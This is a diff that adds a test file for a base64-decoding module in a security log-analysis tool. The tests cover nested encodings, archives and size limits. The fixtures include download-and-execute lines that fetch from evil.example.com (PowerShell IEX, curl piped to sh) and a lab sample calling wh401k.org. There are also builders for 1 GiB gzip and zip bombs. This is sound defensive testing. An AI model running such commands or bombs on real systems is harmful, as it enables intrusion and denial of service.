@@ -1,0 +1,372 @@
+import assert from "node:assert/strict";
+import crypto from "node:crypto";
+import { test } from "node:test";
+import zlib from "node:zlib";
+import { Deflate, gzipSync, strToU8, zipSync } from "fflate";
+import pl from "nodejs-polars";
+import { QueryProvider } from "../../src/data/queryProvider";
+import { base64, Base64Error, BASE64_RECORD_COLUMNS, decodeBase64Run } from "../../src/transform/base64Unpack";
+import { detectFileType } from "../../src/transform/fileTypes";
+
+const qp = new QueryProvider("LocalData");
+const b64 = (data: Uint8Array | string) => Buffer.from(typeof data === "string" ? Buffer.from(data) : data).toString("base64");
+const MiB = 1 << 20;
+
+// ---------------------------------------------------------------- the lab's answers
+
+test("lab: base64 in the first 1000 command lines — the seed's two rows, joined back to their source rows", async () => {
+  const procs = await qp.WindowsSecurity.list_host_processes();
+  const decoded = base64.unpackDf(procs.head(1000), { column: "CommandLine" });
+  assert.deepEqual(decoded.columns, [...BASE64_RECORD_COLUMNS, "src_index", "CommandLine", "full_decoded_string"]);
+  const merged = procs
+    .withRowIndex("SourceIndex")
+    .join(decoded, { leftOn: "SourceIndex", rightOn: "src_index" })
+    .filter(pl.col("decoded_string").isNotNull())
+    .select("SourceIndex", "TimeGenerated", "Account", "Computer", "NewProcessName", "CommandLine", "decoded_string");
+  // Reference: the seed walkthrough's merged_filtered table (rows 21 and 968).
+  assert.deepEqual(merged.toRecords(), [
+    {
+      SourceIndex: 21,
+      TimeGenerated: "2/10/19 3:50 PM",
+      Account: "WORKGROUP\\MSTICAlertsWin1$",
+      Computer: "MSTICAlertsWin1",
+      NewProcessName: "C:\\Windows\\System32\\PING.EXE",
+      CommandLine: "cGluZyAgbWljcm9zb2Z0LmNvbSAtbiAxNSA=",
+      decoded_string: "ping  microsoft.com -n 15 ",
+    },
+    {
+      SourceIndex: 968,
+      TimeGenerated: "2/9/19 11:26 PM",
+      Account: "MSTICAlertsWin1\\MSTICAdmin",
+      Computer: "MSTICAlertsWin1",
+      NewProcessName: "C:\\W!ndows\\System32\\powershell.exe",
+      CommandLine:
+        ".\\powershell  -enc LU5vbmludGVyYWN0aXZlIC1Ob3Byb2ZpbGUgLUNvbW1hbmQgIkludm9rZS1FeHByZXNzaW9uIEdldC1Qcm9jZXNzOyBJbnZva2UtV2ViUmVxdWVzdCAtVXJpIGh0dHA6Ly93aDQwMWsub3JnL2dldHBzIg==",
+      decoded_string: '-Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://wh401k.org/getps"',
+    },
+  ]);
+  const row968 = decoded.filter(pl.col("src_index").eq(968)).toRecords()[0] as Record<string, unknown>;
+  assert.equal(
+    row968.full_decoded_string,
+    `.\\powershell  -enc <decoded type='string' name='[None]' index='1' depth='1'>-Noninteractive -Noprofile -Command "Invoke-Expression Get-Process; Invoke-WebRequest -Uri http://wh401k.org/getps"</decoded>`,
+  );
+  assert.equal(row968.encoding_type, "utf-8");
+  assert.equal(row968.reference, "1.1");
+  assert.equal(row968.md5, crypto.createHash("md5").update(String(row968.decoded_string)).digest("hex"));
+});
+
+test("lab: syslog base64 — 104 items (MSTICPy's count), the secret message and the secret URI at row 9", async () => {
+  const syslog = await qp.LinuxSyslog.list_all_syslog_events();
+  const decoded = base64.unpackDf(syslog, { column: "SyslogMessage" });
+  // MSTICPy decodes 104 items here, mostly long path segments that happen to be valid base64 (binary).
+  assert.equal(decoded.height, 104);
+  assert.deepEqual(decoded.getColumn("decoded_string").unique(true).toArray(), [null, "Congratulations you found the secret message", "The secret URI is www.github.com/microsoft/msticpy"]);
+  const row9 = decoded.slice(9, 1).toRecords()[0] as Record<string, unknown>;
+  assert.equal(row9.decoded_string, "The secret URI is www.github.com/microsoft/msticpy");
+  assert.equal(row9.src_index, 431);
+  assert.equal(syslog.getColumn("SyslogMessage").get(431), row9.SyslogMessage);
+  assert.ok(String(row9.full_decoded_string).includes("www.github.com"));
+  // Binary items carry hashes and printable bytes, no text.
+  const bin = decoded.slice(0, 1).toRecords()[0] as Record<string, unknown>;
+  assert.equal(bin.encoding_type, "binary");
+  assert.equal(bin.decoded_string, null);
+  assert.match(String(bin.printable_bytes), /^[0-9a-f]{2}( [0-9a-f]{2})+$/);
+  assert.match(String(bin.full_decoded_string), /<decoded value='binary' name='\[None\]' type='None' index='1' depth='1'>[0-9a-f ]+<\/decoded>/);
+});
+
+// ---------------------------------------------------------------- decoding
+
+test("MSTICPy's candidate rule: 30+ base64 characters whose length and padding Python accepts", () => {
+  assert.equal(decodeBase64Run("QUFB")?.toString(), "AAA");
+  assert.equal(decodeBase64Run("QUFBQQ"), undefined); // 4n+2 without padding
+  assert.equal(decodeBase64Run("QUFBQQ==")?.toString(), "AAAA");
+  assert.equal(decodeBase64Run("QUFBQUE=")?.toString(), "AAAAA"); // 4n+3 with one '='
+  assert.equal(decodeBase64Run("QUFBQUFBQ"), undefined); // 4n+1 never
+  assert.equal(decodeBase64Run("QUFB\r\nQUFB")?.toString(), "AAAAAA"); // line breaks dropped
+  assert.equal(base64.unpack("short QUFBQUFB").items.length, 0); // under 30 characters
+});
+
+test("unpack: a string with its tags, records and items", () => {
+  const r = base64.unpack(`ping ${b64("ping  microsoft.com -n 15 ")} and ${b64("second fragment of text!")}`);
+  assert.equal(
+    r.fullDecodedString,
+    "ping <decoded type='string' name='[None]' index='1' depth='1'>ping  microsoft.com -n 15 </decoded> and <decoded type='string' name='[None]' index='2' depth='1'>second fragment of text!</decoded>",
+  );
+  assert.equal(r.records.height, 2);
+  assert.deepEqual(r.records.columns, [...BASE64_RECORD_COLUMNS]);
+  assert.deepEqual(r.items.map((i) => [i.reference, i.fileName, i.fileType, i.encodingType]), [
+    ["1.1", "unknown", null, "utf-8"],
+    ["1.2", "unknown", null, "utf-8"],
+  ]);
+  const rec = r.records.toRecords()[0] as Record<string, unknown>;
+  assert.deepEqual(JSON.parse(String(rec.file_hashes)), { md5: rec.md5, sha1: rec.sha1, sha256: rec.sha256 });
+  assert.deepEqual(rec.input_bytes, [...Buffer.from("ping  microsoft.com -n 15 ")]);
+  assert.deepEqual(r.limits, []);
+  assert.equal(base64.unpack(null).fullDecodedString, "");
+});
+
+test("PowerShell -enc (UTF-16LE) decodes as utf-16 text, not UTF-8 with NULs", () => {
+  const cmd = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a')";
+  const r = base64.unpack(`powershell -enc ${Buffer.from(cmd, "utf16le").toString("base64")}`);
+  assert.equal(r.items[0].encodingType, "utf-16");
+  assert.equal(r.items[0].decodedString, cmd);
+  assert.ok(r.fullDecodedString.includes(cmd));
+});
+
+test("nested base64 is decoded level by level, tags nested, depth counted", () => {
+  const inner = b64("the innermost secret: http://evil.example.com/x");
+  const r = base64.unpack(b64(`outer text ${b64(`middle ${inner}`)}`));
+  assert.deepEqual(r.items.map((i) => [i.reference, i.depth]), [["1.1", 1], ["2.1", 2], ["3.1", 3]]);
+  assert.equal(r.items[2].decodedString, "the innermost secret: http://evil.example.com/x");
+  assert.match(r.fullDecodedString, /^<decoded type='string' name='\[None\]' index='1' depth='1'>outer text <decoded type='string' name='\[None\]' index='1' depth='2'>middle <decoded type='string' name='\[None\]' index='1' depth='3'>the innermost secret/);
+});
+
+/** A minimal PE image: MZ, e_lfanew → PE header with characteristics and subsystem. */
+function peImage(characteristics: number, subsystem: number): Uint8Array {
+  const b = new Uint8Array(0x200);
+  b.set([0x4d, 0x5a]);
+  b[0x3c] = 0x80;
+  b.set([0x50, 0x45, 0, 0], 0x80);
+  b[0x80 + 22] = characteristics & 0xff;
+  b[0x80 + 23] = characteristics >> 8;
+  b[0x80 + 24 + 68] = subsystem;
+  return b;
+}
+
+test("binary file types by header: exe, dll, sys, elf, pdf, 7z", () => {
+  assert.equal(detectFileType(peImage(0x0102, 2)), "exe");
+  assert.equal(detectFileType(peImage(0x2102, 2)), "dll");
+  assert.equal(detectFileType(peImage(0x0102, 1)), "sys");
+  assert.equal(detectFileType(Buffer.from("\x7fELF\x02\x01\x01")), "elf");
+  assert.equal(detectFileType(Buffer.from("%PDF-1.7\n")), "pdf");
+  assert.equal(detectFileType(Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4])), "7z");
+  assert.equal(detectFileType(Buffer.from("plain text")), null);
+  const r = base64.unpack(`drop ${b64(peImage(0x0102, 2))}`);
+  assert.equal(r.items[0].fileType, "exe");
+  assert.equal(r.items[0].encodingType, "binary");
+  assert.match(r.fullDecodedString, /^drop <decoded value='binary' name='\[exe\]' type='exe' index='1' depth='1'>4d 5a 00/);
+});
+
+function tar(files: Record<string, string | Uint8Array>): Uint8Array {
+  const blocks: Uint8Array[] = [];
+  for (const [name, content] of Object.entries(files)) {
+    const data = typeof content === "string" ? strToU8(content) : content;
+    const h = new Uint8Array(512);
+    const put = (s: string, at: number) => h.set(strToU8(s), at);
+    put(name, 0);
+    put("0000644\0", 100);
+    put("0000000\0", 108);
+    put("0000000\0", 116);
+    put(data.length.toString(8).padStart(11, "0") + "\0", 124);
+    put("00000000000\0", 136);
+    put("        ", 148);
+    h[156] = 0x30;
+    put("ustar\x0000", 257);
+    const sum = h.reduce((a, b) => a + b, 0);
+    put(sum.toString(8).padStart(6, "0") + "\0 ", 148);
+    blocks.push(h, data, new Uint8Array((512 - (data.length % 512)) % 512));
+  }
+  blocks.push(new Uint8Array(1024));
+  return Buffer.concat(blocks);
+}
+
+test("archives: zip members (several, or one), gzip, tar, tar.gz — each member decoded, tagged and hashed", () => {
+  const two = zipSync({ "a.txt": strToU8("payload one: http://evil.example.com/1"), "b.bin": new Uint8Array([0xde, 0xad, 0xbe, 0xef, 0xff]) });
+  const r = base64.unpack(`x ${b64(two)}`);
+  assert.deepEqual(r.items.map((i) => [i.reference, i.fileName, i.fileType, i.encodingType, i.index, i.depth]), [
+    ["2.1.1", "a.txt", "zip", "utf-8", "1.1", 2],
+    ["2.1.2", "b.bin", "zip", "binary", "1.2", 2],
+  ]);
+  assert.equal(
+    r.fullDecodedString,
+    "x <decoded value='multiple binary' type='multiple' index='1' depth='1'><decoded type='string' name='[zip] Filename: a.txt' index='1.1' depth='2'>payload one: http://evil.example.com/1</decoded><decoded value='binary' name='[zip] Filename: b.bin' type='zip' index='1.2' depth='2'>de ad be ef ff</decoded></decoded>",
+  );
+  // One member takes the archive's place (MSTICPy).
+  const one = base64.unpack(b64(zipSync({ "only.txt": strToU8("just me") })));
+  assert.equal(one.fullDecodedString, "<decoded type='string' name='[zip] Filename: only.txt' index='1' depth='1'>just me</decoded>");
+  // gzip: the header's file name when present, else MSTICPy's gzip_file.
+  const gz = base64.unpack(b64(gzipSync(strToU8("gzipped text content"), { filename: "note.txt" })));
+  assert.deepEqual(gz.items.map((i) => [i.fileName, i.fileType, i.decodedString]), [["note.txt", "gz", "gzipped text content"]]);
+  assert.equal(base64.unpack(b64(gzipSync(strToU8("no name here")))).items[0].fileName, "gzip_file");
+  // tar, and a tar inside gzip (one level deeper).
+  const t = tar({ "dir/run.sh": "#!/bin/sh\ncurl http://evil.example.com/t | sh\n", "b.txt": "second" });
+  assert.equal(detectFileType(t), "tar");
+  const tr = base64.unpack(b64(t));
+  assert.deepEqual(tr.items.map((i) => [i.fileName, i.fileType, i.decodedString]), [
+    ["dir/run.sh", "tar", "#!/bin/sh\ncurl http://evil.example.com/t | sh\n"],
+    ["b.txt", "tar", "second"],
+  ]);
+  const tgz = base64.unpack(b64(gzipSync(t)));
+  assert.deepEqual(tgz.items.map((i) => [i.reference, i.fileName, i.fileType]), [
+    ["3.1.1.1", "dir/run.sh", "tar"],
+    ["3.1.1.2", "b.txt", "tar"],
+  ]);
+  assert.match(tgz.fullDecodedString, /^<decoded value='multiple binary' type='multiple' index='1' depth='1'><decoded value='multiple binary' type='multiple' index='1\.1' depth='2'><decoded type='string' name='\[tar\] Filename: dir\/run\.sh'/);
+  // base64 inside an archive member is decoded on the next level.
+  const nested = base64.unpack(b64(zipSync({ "x.txt": strToU8(`run ${b64("the hidden command line, base64 in a zip")}`) })));
+  assert.deepEqual(nested.items.map((i) => i.decodedString?.slice(0, 20)), ["run dGhlIGhpZGRlbiBj", "the hidden command l"]);
+});
+
+test("corrupt and truncated archives give what could be read and a note — never an exception", () => {
+  const zip = zipSync({ "a.txt": strToU8("first member, complete"), "b.txt": strToU8("second member ".repeat(50)) }, { level: 9 });
+  const cut = zip.slice(0, zip.length - 60); // central directory gone
+  const r = base64.unpack(b64(cut));
+  assert.ok(r.items.length >= 1);
+  assert.equal(r.items[0].decodedString, "first member, complete");
+  assert.ok(r.limits.some((l) => /no central directory/.test(l)));
+  const gz = gzipSync(strToU8("a gzip stream that will be cut short ".repeat(20)));
+  const g = base64.unpack(b64(gz.slice(0, 40)));
+  assert.equal(g.items.length, 1);
+  assert.match(String(g.items[0].limit), /corrupt or truncated/);
+});
+
+// ---------------------------------------------------------------- limits
+
+/** A raw deflate stream of `mib` MiB of zeros, built in milliseconds: sync-flushed blocks repeated. */
+function zeroDeflate(mib: number): Uint8Array {
+  let out: Uint8Array[] = [];
+  const d = new Deflate({ level: 9 }, (chunk) => out.push(chunk));
+  const take = () => {
+    const r = Buffer.concat(out);
+    out = [];
+    return r;
+  };
+  const zero = new Uint8Array(MiB);
+  d.push(zero);
+  d.flush(true);
+  const first = take();
+  d.push(zero);
+  d.flush(true);
+  const steady = take(); // one more MiB, given a window of zeros: repeatable
+  d.push(new Uint8Array(0), true);
+  const last = take();
+  return Buffer.concat([first, ...new Array<Uint8Array>(mib - 1).fill(steady), last]);
+}
+
+function crcOfZeros(mib: number): number {
+  const zero = new Uint8Array(MiB);
+  let crc = 0;
+  for (let i = 0; i < mib; i++) crc = zlib.crc32(zero, crc);
+  return crc;
+}
+
+function gzipBomb(mib: number): Uint8Array {
+  const trailer = Buffer.alloc(8);
+  trailer.writeUInt32LE(crcOfZeros(mib), 0);
+  trailer.writeUInt32LE((mib * MiB) % 2 ** 32, 4);
+  return Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), zeroDeflate(mib), trailer]);
+}
+
+function zipBomb(mib: number): Uint8Array {
+  const data = zeroDeflate(mib);
+  const name = Buffer.from("zeros.bin");
+  const crc = crcOfZeros(mib);
+  const local = Buffer.alloc(30);
+  local.writeUInt32LE(0x04034b50, 0);
+  local.writeUInt16LE(20, 4);
+  local.writeUInt16LE(8, 8);
+  local.writeUInt32LE(crc, 14);
+  local.writeUInt32LE(data.length, 18);
+  local.writeUInt32LE(mib * MiB, 22);
+  local.writeUInt16LE(name.length, 26);
+  const central = Buffer.alloc(46);
+  central.writeUInt32LE(0x02014b50, 0);
+  central.writeUInt16LE(20, 4);
+  central.writeUInt16LE(20, 6);
+  central.writeUInt16LE(8, 10);
+  central.writeUInt32LE(crc, 16);
+  central.writeUInt32LE(data.length, 20);
+  central.writeUInt32LE(mib * MiB, 24);
+  central.writeUInt16LE(name.length, 28);
+  const cdOffset = local.length + name.length + data.length;
+  const eocd = Buffer.alloc(22);
+  eocd.writeUInt32LE(0x06054b50, 0);
+  eocd.writeUInt16LE(1, 8);
+  eocd.writeUInt16LE(1, 10);
+  eocd.writeUInt32LE(central.length + name.length, 12);
+  eocd.writeUInt32LE(cdOffset, 16);
+  return Buffer.concat([local, name, data, central, name, eocd]);
+}
+
+test("a 1 GiB gzip bomb and a 1 GiB zip bomb inside base64 stop at the limits, marked, memory untouched", () => {
+  const gz = gzipBomb(1024);
+  const zip = zipBomb(1024);
+  assert.ok(gz.length < 1.1 * MiB && zip.length < 1.1 * MiB, "about 1 MB each: a ~1000:1 bomb");
+  const line = `powershell -c "$a='${b64(gz)}'; $b='${b64(zip)}'"`;
+  const before = process.memoryUsage();
+  const t0 = performance.now();
+  const r = base64.unpack(line);
+  const ms = performance.now() - t0;
+  const after = process.memoryUsage();
+  const grew = after.rss + after.arrayBuffers - (before.rss + before.arrayBuffers);
+  assert.ok(grew < 256 * MiB, `memory grew by ${(grew / MiB).toFixed(0)} MiB`);
+  assert.ok(ms < 20_000, `took ${ms.toFixed(0)} ms`);
+  assert.equal(r.items.length, 2);
+  const [g, z] = r.items;
+  // The gzip bomb: stopped by the per-archive limit (maxExpandedBytes, 8 MiB).
+  assert.equal(g.fileType, "gz");
+  assert.equal(g.inputBytes.length, 8 * MiB);
+  assert.match(String(g.limit), /^maxExpandedBytes: output stopped at 8388608 bytes/);
+  // The zip bomb: stopped by what is left of the per-input budget (maxDecodedBytes, 16 MiB, shared with the gzip).
+  assert.equal(z.fileType, "zip");
+  assert.equal(z.fileName, "zeros.bin");
+  assert.match(String(z.limit), /^maxDecodedBytes: output stopped at \d+ bytes/);
+  const decodedTotal = Buffer.from(b64(gz), "base64").length + Buffer.from(b64(zip), "base64").length + g.inputBytes.length + z.inputBytes.length;
+  assert.equal(decodedTotal, 16 * MiB);
+  assert.match(r.fullDecodedString, /limit='maxExpandedBytes: output stopped at 8388608 bytes'/);
+  assert.match(r.fullDecodedString, /limit='maxDecodedBytes: output stopped at \d+ bytes'/);
+  // The hex shown is capped too; hashes cover every byte.
+  assert.match(g.printableBytes, /^00 00 .* … \(\+8323072 bytes\)$/);
+  assert.equal(g.sha256, crypto.createHash("sha256").update(new Uint8Array(8 * MiB)).digest("hex"));
+
+  // Alone, the zip bomb stops at maxExpandedBytes too.
+  const zr = base64.unpack(b64(zip));
+  assert.equal(zr.items[0].inputBytes.length, 8 * MiB);
+  assert.match(String(zr.items[0].limit), /^maxExpandedBytes/);
+  // A tight per-input budget leaves the second fragment encoded, in a limit tag.
+  const tight = base64.unpack(line, { maxDecodedBytes: 10 * MiB });
+  assert.equal(tight.items.length, 1);
+  assert.ok(tight.limits.some((l) => l.startsWith("maxDecodedBytes")));
+  assert.ok(tight.fullDecodedString.includes(`<decoded type='limit' reason='maxDecodedBytes' index='2' depth='1'>${b64(zip)}</decoded>`));
+});
+
+test("member count limit: a zip of 150 files reads 100 and says so", () => {
+  const files: Record<string, Uint8Array> = {};
+  for (let i = 0; i < 150; i++) files[`f${i}.txt`] = strToU8(`file ${i}`);
+  const r = base64.unpack(b64(zipSync(files)));
+  assert.equal(r.items.length, 100);
+  assert.ok(r.limits.some((l) => /maxArchiveMembers: 50 of 150 members not read/.test(l)));
+  assert.match(r.fullDecodedString, /^<decoded value='multiple binary' type='multiple' index='1' depth='1' limit='maxArchiveMembers: 50 of 150 members not read'>/);
+  assert.equal(base64.unpack(b64(zipSync(files)), { maxArchiveMembers: 200 }).items.length, 150);
+});
+
+test("depth limit: base64 nested 25 deep stops at 20 and is marked", () => {
+  let s = "the bottom of the well, far down: http://evil.example.com/deep";
+  for (let i = 0; i < 25; i++) s = b64(s);
+  const r = base64.unpack(s);
+  assert.equal(Math.max(...r.items.map((i) => i.depth)), 20);
+  assert.ok(r.items.filter((i) => i.depth === 20).every((i) => /^maxDepth/.test(String(i.limit))));
+  assert.match(r.fullDecodedString, /<decoded type='limit' reason='maxDepth' depth='21'\/>$/);
+  assert.ok(r.limits.some((l) => l.startsWith("maxDepth")));
+  const full = base64.unpack(s, { maxDepth: 30 });
+  assert.equal(full.items.at(-1)?.decodedString, "the bottom of the well, far down: http://evil.example.com/deep");
+});
+
+test("fragment limit: the rest is left encoded, in a limit tag", () => {
+  const parts = Array.from({ length: 12 }, (_v, i) => b64(`fragment number ${String(i).padStart(2, "0")} of many`));
+  const r = base64.unpack(parts.join(" "), { maxFragments: 10 });
+  assert.equal(r.items.length, 10);
+  assert.ok(r.fullDecodedString.includes(`<decoded type='limit' reason='maxFragments' index='11' depth='1'>${parts[10]}</decoded> ${parts[11]}`));
+});
+
+test("unpackDf: null cells, indexColumn, empty results keep the schema, errors name the column", () => {
+  const df = pl.DataFrame({ id: [100, 200, 300], cmd: [null, `echo ${b64("a hidden command line text")}`, "nothing to see"] });
+  const out = base64.unpackDf(df, { column: "cmd", indexColumn: "id" });
+  assert.deepEqual(out.select("src_index", "decoded_string", "cmd").toRecords(), [{ src_index: 200, decoded_string: "a hidden command line text", cmd: df.getColumn("cmd").get(1) }]);
+  const none = base64.unpackDf(df.head(1), { column: "cmd" });
+  assert.equal(none.height, 0);
+  assert.deepEqual(none.columns, [...BASE64_RECORD_COLUMNS, "src_index", "cmd", "full_decoded_string"]);
+  assert.equal(none.getColumn("src_index").dtype.variant, "UInt32");
+  assert.throws(() => base64.unpackDf(df, { column: "Cmd" }), (e: unknown) => e instanceof Base64Error && /"Cmd" is not in the data.*Did you mean cmd/.test((e as Error).message));
+  assert.throws(() => base64.unpack("x", { maxDepth: 0 }), /maxDepth must be a positive number/);
+});
